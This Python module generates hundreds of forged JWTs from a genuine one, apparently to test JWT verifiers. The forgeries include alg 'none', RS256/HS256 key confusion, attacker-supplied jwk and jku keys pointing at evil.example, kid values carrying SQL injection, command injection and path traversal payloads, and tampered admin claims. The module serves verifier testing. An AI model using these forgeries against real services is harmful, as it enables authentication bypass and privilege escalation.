"""Every way we know of to make a token that a careless verifier takes for a genuine one."""

import base64
import datetime
import hashlib
import hmac
import json

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def encoded(data):
    if isinstance(data, (dict, list)):
        data = json.dumps(data, separators=(",", ":"))
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(part):
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def parts(token):
    """Header and claims as objects, and the signature's bytes."""
    header, claims, signature = token.split(".")
    return json.loads(decoded(header)), json.loads(decoded(claims)), decoded(signature)


def joined(header, claims, signature):
    return f"{encoded(header)}.{encoded(claims)}.{encoded(signature)}"


def signed(header, claims, key, digest=None, pad=None):
    """A token signed by a private RSA key."""
    text = f"{encoded(header)}.{encoded(claims)}"
    return f"{text}.{encoded(key.sign(text.encode(), pad or padding.PKCS1v15(), digest or hashes.SHA256()))}"


def by_secret(header, claims, secret, name="sha256"):
    text = f"{encoded(header)}.{encoded(claims)}"
    return f"{text}.{encoded(hmac.new(secret, text.encode(), name).digest())}"


def public_key(jwk):
    number = [int.from_bytes(decoded(jwk[name]), "big") for name in ("e", "n")]
    return rsa.RSAPublicNumbers(*number).public_key()


def as_jwk(key):
    numbers = key.public_key().public_numbers()
    n, e = (encoded(one.to_bytes((one.bit_length() + 7) // 8, "big")) for one in (numbers.n, numbers.e))
    return {"kty": "RSA", "use": "sig", "alg": "RS256", "n": n, "e": e,
            "kid": encoded(hashlib.sha256(f'{{"e":"{e}","kty":"RSA","n":"{n}"}}'.encode()).digest())}


class Forger:
    """Makes tokens from a genuine one, the published keys, and a key of its own."""

    def __init__(self, genuine, published, address="https://evil.example"):
        self.genuine, self.published, self.address = genuine, published, address
        self.header, self.claims, self.signature = parts(genuine)
        self.key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.ours = public_key(next(one for one in published if one["kid"] == self.header["kid"]))

    def all(self):
        """(name, token) of every forgery."""
        for family in (self.without_signature, self.secret_from_public_key, self.own_keys, self.other_algorithms, self.key_names,
                       self.pieces, self.spellings, self.headers, self.changed_claims):
            yield from family()

    def without_signature(self):
        for name in ("none", "None", "NONE", "nOnE", "none ", "", "null", None, 0, False, [], {}):
            header = self.header | {"alg": name}
            yield f"alg {name!r} unsigned", f"{encoded(header)}.{encoded(self.claims)}."
            yield f"alg {name!r}, old signature", joined(header, self.claims, self.signature)
        yield "no alg", joined({key: value for key, value in self.header.items() if key != "alg"}, self.claims, self.signature)
        yield "signature stripped", self.genuine.rsplit(".", 1)[0] + "."
        yield "signature and dot stripped", self.genuine.rsplit(".", 1)[0]
        yield "two empty signatures", self.genuine.rsplit(".", 1)[0] + ".."
        yield "zero signature", joined(self.header, self.claims, bytes(256))
        yield "signature 1", joined(self.header, self.claims, bytes(255) + b"\1")
        yield "signature of ones", joined(self.header, self.claims, b"\xff" * 256)
        yield "the modulus as signature", joined(self.header, self.claims, self.ours.public_numbers().n.to_bytes(256, "big"))

    def secret_from_public_key(self):
        """The confusion of RS256 and HS256: the public key is no secret."""
        spki, pkcs1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
        pem, der = serialization.Encoding.PEM, serialization.Encoding.DER
        jwk = next(one for one in self.published if one["kid"] == self.header["kid"])
        secrets = {"PEM": self.ours.public_bytes(pem, spki), "PEM without end of line": self.ours.public_bytes(pem, spki).strip(),
                   "PKCS1 PEM": self.ours.public_bytes(pem, pkcs1), "DER": self.ours.public_bytes(der, spki),
                   "PKCS1 DER": self.ours.public_bytes(der, pkcs1), "modulus": decoded(jwk["n"]), "modulus text": jwk["n"].encode(),
                   "kid": jwk["kid"].encode(), "JWK": json.dumps(jwk).encode(), "JWK set": json.dumps({"keys": self.published}).encode(),
                   "nothing": b"", "NUL": b"\0", "secret": b"secret", "btelo": b"btelo"}
        for name, secret in secrets.items():
            yield f"HS256 with {name}", by_secret(self.header | {"alg": "HS256"}, self.claims, secret)
            yield f"HMAC under RS256 with {name}", by_secret(self.header, self.claims, secret)
        for name, digest in (("HS384", "sha384"), ("HS512", "sha512")):
            yield f"{name} with PEM", by_secret(self.header | {"alg": name}, self.claims, secrets["PEM"], digest)

    def own_keys(self):
        """Signatures that are right, by a key that the token brings along."""
        jwk = as_jwk(self.key)
        plain = {key: value for key, value in self.header.items() if key != "kid"}
        yield "own key under the genuine kid", signed(self.header, self.claims, self.key)
        yield "own key, own kid", signed(self.header | {"kid": jwk["kid"]}, self.claims, self.key)
        yield "own key, no kid", signed(plain, self.claims, self.key)
        for kid in (self.header["kid"], jwk["kid"]):
            yield "jwk", signed(plain | {"kid": kid, "jwk": jwk}, self.claims, self.key)
            yield "jwk with the genuine kid inside", signed(plain | {"kid": kid, "jwk": jwk | {"kid": self.header["kid"]}}, self.claims, self.key)
            for name in ("jku", "x5u"):
                yield name, signed(plain | {"kid": kid, name: f"{self.address}/keys.json"}, self.claims, self.key)
                yield f"{name} to loopback", signed(plain | {"kid": kid, name: "http://127.0.0.1:1/keys.json"}, self.claims, self.key)
            yield "x5c", signed(plain | {"kid": kid, "x5c": [self.certificate()]}, self.claims, self.key)
        # Not even with the genuine signature over the rest may a key come along.
        for name, value in (("jwk", jwk), ("jku", self.address), ("x5u", self.address), ("x5c", [self.certificate()])):
            yield f"{name} beside the old signature", joined(self.header | {name: value}, self.claims, self.signature)

    def certificate(self):
        name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "evil")])
        now = datetime.datetime.now(datetime.timezone.utc)
        made = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self.key.public_key())
                .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1)).sign(self.key, hashes.SHA256()))
        return base64.b64encode(made.public_bytes(serialization.Encoding.DER)).decode()

    def other_algorithms(self):
        pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
        yield "PS256", signed(self.header | {"alg": "PS256"}, self.claims, self.key, pad=pss)
        yield "RS384", signed(self.header | {"alg": "RS384"}, self.claims, self.key, hashes.SHA384())
        yield "RS512", signed(self.header | {"alg": "RS512"}, self.claims, self.key, hashes.SHA512())
        for name in ("PS256", "RS384", "RS512", "ES256", "EdDSA", "rs256", "RS256 ", " RS256", "RS256\0", "Rs256", "R\u017f256"):
            yield f"alg {name!r}, old signature", joined(self.header | {"alg": name}, self.claims, self.signature)
        curve = ec.generate_private_key(ec.SECP256R1())
        header = self.header | {"alg": "ES256"}
        text = f"{encoded(header)}.{encoded(self.claims)}"
        yield "ES256", f"{text}.{encoded(curve.sign(text.encode(), ec.ECDSA(hashes.SHA256())))}"
        yield "ES256 of zeros", f"{text}.{encoded(bytes(64))}"
        header = self.header | {"alg": "EdDSA"}
        text = f"{encoded(header)}.{encoded(self.claims)}"
        yield "EdDSA", f"{text}.{encoded(ed25519.Ed25519PrivateKey.generate().sign(text.encode()))}"

    def key_names(self):
        names = ["../../../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "file:///dev/null", "' OR '1'='1",
                 "x' UNION SELECT 'key", "'; DROP TABLE signing_keys; --", "| sleep 5", "$(id)", "`id`", "https://evil.example/key", "%00",
                 self.header["kid"] + "\0", self.header["kid"] + " ", self.header["kid"].swapcase(), self.header["kid"][:-1],
                 self.header["kid"] + "/../x", "", "*", "%", None, 0, True, [self.header["kid"]], {"kid": self.header["kid"]}, "k" * 3000]
        for name in names:
            header = self.header | {"kid": name}
            yield f"kid {name!r:.40}, old signature", joined(header, self.claims, self.signature)
            yield f"kid {name!r:.40}, own key", signed(header, self.claims, self.key)
            # A kid that names an empty file or row makes the empty secret the key.
            yield f"kid {name!r:.40}, empty secret", by_secret(header | {"alg": "HS256"}, self.claims, b"")

    def pieces(self):
        """Cut, longer, in another order."""
        head, body, tail = self.genuine.split(".")
        for count in (1, 2, 8, 100, len(self.genuine) - 1):
            yield f"{count} bytes missing at the end", self.genuine[:-count]
            yield f"{count} bytes missing at the start", self.genuine[count:]
        yield "a dot at the end", self.genuine + "."
        yield "a dot at the start", "." + self.genuine
        yield "a fourth part", self.genuine + "." + tail
        yield "encrypted, five parts", self.genuine + "." + tail + "." + tail
        yield "no header", f".{body}.{tail}"
        yield "no claims", f"{head}..{tail}"
        yield "dots alone", ".."
        yield "parts in another order", f"{body}.{head}.{tail}"
        yield "commas", self.genuine.replace(".", ",")
        yield "as JSON", json.dumps({"protected": head, "payload": body, "signature": tail})
        yield "signature of 255 bytes", joined(self.header, self.claims, self.signature[:-1])
        yield "signature of 257 bytes, NUL first", joined(self.header, self.claims, b"\0" + self.signature)
        yield "signature of 257 bytes, NUL last", joined(self.header, self.claims, self.signature + b"\0")
        n = self.ours.public_numbers().n
        more = int.from_bytes(self.signature, "big") + n
        yield "signature plus modulus", joined(self.header, self.claims, more.to_bytes((more.bit_length() + 7) // 8, "big"))
        for place in (0, 100, 255):
            changed = bytearray(self.signature)
            changed[place] ^= 1
            yield f"a bit of byte {place} of the signature changed", f"{head}.{body}.{encoded(bytes(changed))}"
        yield "1 MB header", "A" * (1 << 20) + f".{body}.{tail}"
        yield "9 KB", f"{encoded(self.header | {'x': 'y' * 6000})}.{body}.{tail}"
        yield "depth 5,000", f"{encoded('{' + chr(34) + 'a' + chr(34) + ':' + '[' * 5000)}.{body}.{tail}"

    def spellings(self):
        """The genuine bytes, written otherwise: one token, one spelling."""
        head, body, tail = self.genuine.split(".")
        for name, part in (("header", head), ("claims", body), ("signature", tail)):
            pad = "=" * (-len(part) % 4) or "===="
            yield f"padding after the {name}", self.genuine.replace(part, part + pad)
            yield f"one = after the {name}", self.genuine.replace(part, part + "=")
        if set("-_") & set(self.genuine):
            yield "+ and /", self.genuine.replace("-", "+").replace("_", "/")
        for part, name in ((head, "header"), (body, "claims"), (tail, "signature")):
            spare = {0: 0, 2: 4, 3: 2}[len(part) % 4]
            if spare:
                last = ALPHABET.index(part[-1])
                yield f"spare bits of the {name}", self.genuine.replace(part, part[:-1] + ALPHABET[last ^ 1])
        for sign in ("\t", " ", "%20", "\u00a0", "\u200b", "\v"):
            yield f"{sign!r} inside", head + sign + "." + body + "." + tail
        yield "percent escapes", self.genuine.replace(".", "%2E")
        yield "quoted", f'"{self.genuine}"'
        yield "twice with a comma", f"{self.genuine},{self.genuine}"
        yield "twice with a space", f"{self.genuine} {self.genuine}"
        yield "upper case", self.genuine.upper()

    def headers(self):
        """Header objects that two readers read differently."""
        kid = self.header["kid"]
        texts = [f'{{"alg":"none","alg":"RS256","typ":"at+jwt","kid":"{kid}"}}', f'{{"alg":"RS256","typ":"at+jwt","kid":"{kid}","alg":"none"}}',
                 f'{{"alg":"RS256","typ":"at+jwt","kid":"{kid}","kid":"x"}}', f'{{"\\u0061lg":"RS256","typ":"at+jwt","kid":"{kid}"}}',
                 f'{{"alg":"RS256","typ":"at+jwt","kid":"{kid}",}}', f'{{"alg":"RS256","typ":"at+jwt","kid":"{kid}"}} ', "{'alg':'RS256'}",
                 "[]", "null", '"RS256"', "", "{", "\ufeff{}", f'{{"ALG":"RS256","typ":"at+jwt","kid":"{kid}"}}']
        for text in texts:
            yield f"header {text:.50}, old signature", joined(text, self.claims, self.signature)
            yield f"header {text:.50}, own key", signed(text, self.claims, self.key)
        for extra in ({"crit": ["exp"], "exp": 0}, {"crit": []}, {"crit": ["b64"], "b64": False}, {"b64": False}, {"b64": True}, {"zip": "DEF"},
                      {"enc": "A256GCM"}, {"cty": "JWT"}, {"typ": "JWT"}, {"typ": "JOSE"}, {"typ": None}):
            yield f"{extra} beside the old signature", joined(self.header | extra, self.claims, self.signature)
            yield f"{extra}, own key", signed(self.header | extra, self.claims, self.key)

    def changed_claims(self):
        """The genuine header and signature around other claims."""
        for change in ({"sub": "0" * 32}, {"exp": 4102444800}, {"admin": True}, {"scope": "openid profile email admin"}, {"client_id": "x"}, {"jti": "x"}):
            yield f"claims changed: {change}", joined(self.header, self.claims | change, self.signature)
        text = json.dumps(self.claims, separators=(",", ":"))
        yield "claims doubled", joined(self.header, text[:-1] + ',"sub":"' + "0" * 32 + '"}', self.signature)
        yield "claims with spaces", joined(self.header, json.dumps(self.claims, indent=1), self.signature)
